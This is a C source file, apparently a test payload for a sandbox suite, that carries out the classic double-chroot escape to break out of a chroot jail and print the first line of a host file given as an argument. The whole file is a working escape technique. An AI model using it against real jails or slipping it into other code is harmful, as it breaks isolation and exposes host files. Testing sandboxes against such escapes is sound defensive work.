/* SPDX-License-Identifier: Apache-2.0 */
/* payload_escape.c - tries to get above its root by a second chroot, and reads a file of the host from there.
 *
 *   escape FILE    prints FILE's first line and ends with 0 where that succeeds */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

#define UP_MAX 64

int main(int argc, char *argv[])
{
	char line[256] = "";
	FILE *f;

	(void)mkdir("/tmp/below", 0755);
	/* Our working directory stays above the new root: ".." no longer stops there. */
	if (argc < 2 || chdir("/tmp") < 0 || chroot("/tmp/below") < 0)
		return 2;
	for (int i = 0; i < UP_MAX; i++)
		(void)!chdir("..");
	if (chroot(".") < 0)
		return 2;
	f = fopen(argv[1], "re");
	if (!f || !fgets(line, sizeof(line), f))
		return 1;
	(void)fputs(line, stdout);
	return fclose(f) == 0 ? 0 : 1;
}
